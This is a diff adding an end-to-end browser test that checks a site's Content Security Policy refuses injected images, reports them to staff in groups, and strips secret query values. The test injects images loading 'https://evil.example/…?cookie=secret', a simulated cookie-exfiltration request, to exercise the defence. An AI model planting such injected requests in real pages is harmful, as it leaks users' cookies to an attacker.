@@ -1,7 +1,7 @@
 import { hallDictionaries as dictionaries } from '../../web/text/hall.ts';
 import { describeWithBrowser } from '../support/browser.ts';
 import { freshAddress, freshEmail, Viewer } from '../support/system.ts';
-import { openPlayground, PASSWORD, signIn } from '../support/system-browser.ts';
+import { codeOf, openPlayground, PASSWORD, signIn } from '../support/system-browser.ts';
 
 const { en, it: italian } = dictionaries;
 const NEW_PASSWORD = 'staple my paper clip';
@@ -122,6 +122,39 @@ describeWithBrowser('a person with a browser, at the running system', () => {
 
     expect(await page.locator('img[src="x"], svg[onload]').count()).toBe(0);
     expect(complaints).toEqual([]);
+  });
+
+  it('[P21] what the policy refuses on a page is reported by the browser, grouped, and shown to staff without the query', async () => {
+    const { system } = playground;
+    const staff = new Viewer(system, freshAddress());
+    const email = 'staff@example.com';
+    await staff.register(email, PASSWORD);
+    await staff.signIn(email, PASSWORD);
+    await staff.send('POST /v1/session/step-up', { body: { password: PASSWORD } });
+    await staff.send('GET /v1/session');
+    const { secret } = (await staff.send('POST /v1/account/totp')).json;
+    await staff.send('POST /v1/account/totp/confirm', { body: { code: await codeOf(system, secret) } });
+    const { challengeId } = (await staff.signIn(email, PASSWORD)).json;
+    await staff.send('POST /v1/sign-in/second-factor', { body: { challengeId, method: 'totp', code: await codeOf(system, secret, 2) } });
+    const { page } = await open('/register?hint=secret#token=secret');
+
+    for (const index of [1, 2]) {
+      await page.evaluate((number) => {
+        const image = document.createElement('img');
+        image.src = `https://evil.example/${number}.png?cookie=secret`;
+        document.body.append(image);
+      }, index);
+    }
+
+    const list = await system.until(async () => {
+      const { json } = await staff.send('GET /v1/admin/csp-reports');
+      return json.groups?.[0]?.count === 2 ? json : undefined;
+    }, 'the reports of two refused images');
+    const metric = (await system.readConsole<{ name: string; sum: number }[]>('/api/metrics')).find(({ name }) => name === 'Csp/Reports');
+    expect(list).toMatchObject({ groups: [{ directive: 'img-src', blocked: 'https://evil.example', page: '/register' }], withoutGroup: 0 });
+    expect(JSON.stringify(list)).not.toContain('secret');
+    expect(metric?.sum).toBeGreaterThan(0);
+    staff.close();
   });
 
   it('[P19] another site’s page can’t sign a person in, nor out', async () => {
